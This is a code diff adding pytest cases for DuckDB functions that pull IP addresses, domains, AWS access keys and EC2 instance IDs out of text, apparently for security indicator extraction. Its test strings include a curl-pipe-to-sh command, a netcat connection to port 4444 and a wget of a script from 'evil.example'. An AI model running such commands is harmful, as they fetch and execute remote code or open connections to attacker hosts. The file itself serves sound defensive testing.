@@ -135,3 +135,30 @@ def test_an_address_of_every_network_belongs_to_none(con: duckdb.DuckDBPyConnect
 @pytest.mark.parametrize("address", ["9.9.9.9", "100.128.0.1", "172.32.0.1", "2001:db8::1", "no address", ""])
 def test_any_other_address_may_be_on_the_internet(con: duckdb.DuckDBPyConnection, address: str) -> None:
     assert says(con, "is_private_address(?)", address) is False
+
+
+@pytest.mark.parametrize(
+    ("function", "text", "expected"),
+    [
+        (
+            "addresses_in",
+            "curl http://203.0.113.7/x | sh; nc 198.51.100.9 4444",
+            ["203.0.113.7", "198.51.100.9"],
+        ),
+        # Private, everybody's, too long and too large: none is somebody's.
+        ("addresses_in", "10.0.0.1 169.254.169.254 8.8.8.8 1.2.3.4.5 203.0.113.700", []),
+        (
+            "domains_in",
+            "wget -q https://Evil.Example:8443/a.sh http://u@b.example/",
+            ["evil.example", "b.example"],
+        ),
+        ("domains_in", "sh install.sh; cat /etc/hosts; http://203.0.113.7/", []),
+        ("access_keys_in", "aws_access_key_id=AKIAIOSFODNN7EXAMPLE", ["AKIAIOSFODNN7EXAMPLE"]),
+        ("instances_in", "aws ssm start-session --target i-0123456789abcdef0", ["i-0123456789abcdef0"]),
+        ("instances_in", "i-0123456789abcdef01 xi-0123456789abcdef0", []),
+    ],
+)
+def test_a_text_names_addresses_domains_keys_and_instances(
+    con: duckdb.DuckDBPyConnection, function: str, text: str, expected: list[str]
+) -> None:
+    assert says(con, f"{function}($1)", text) == expected
